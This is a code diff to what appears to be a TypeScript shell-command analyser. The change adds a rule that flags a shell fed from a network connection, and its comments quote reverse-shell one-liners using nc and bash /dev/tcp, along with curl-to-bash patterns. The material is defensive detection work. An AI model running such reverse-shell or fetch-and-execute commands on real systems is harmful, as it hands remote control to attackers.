@@ -1,6 +1,7 @@
 // Code that arrives at run time and is executed: fetched or decoded content piped into a shell or
 // interpreter, `bash <(curl ...)`, `sh -c "$(curl ...)"`, heredocs and here-strings fed to a
-// shell, and `bash -c` itself (the original asks for every `-c` string).
+// shell, a shell reading a network connection (`nc -e sh h p`, `bash -i >& /dev/tcp/h/p 0>&1`),
+// and `bash -c` itself (the original asks for every `-c` string).
 import type { ExecutedCommand, Substitution } from '../analysis-types';
 import { hasOption, parseArgs } from '../flags';
 import { FETCHERS, isInterpreter, isShell } from '../program-names';
@@ -44,6 +45,7 @@ function feedCanonical(command: ExecutedCommand): string {
   if (feed?.kind === 'pipe') return [...feed.producers.map(canonicalWords), consumer].join(' | ');
   if (feed?.kind === 'heredoc' || feed?.kind === 'herestring') return `${consumer} <<< ${feed.text.trim().replace(/\s+/g, ' ')}`;
   if (feed?.kind === 'process-substitution') return `${consumer} < ${feed.word.value}`;
+  if (feed?.kind === 'network') return `${consumer} < ${feed.address}`;
   return consumer;
 }
 
@@ -67,6 +69,8 @@ function stdinRule(command: ExecutedCommand, shell: boolean): RuleId | undefined
       const decoder = feed.producers.map(decoderRule).find((id) => id !== undefined);
       return decoder ?? 'N05';
     }
+    case 'network':
+      return 'N34';
     default:
       return undefined;
   }
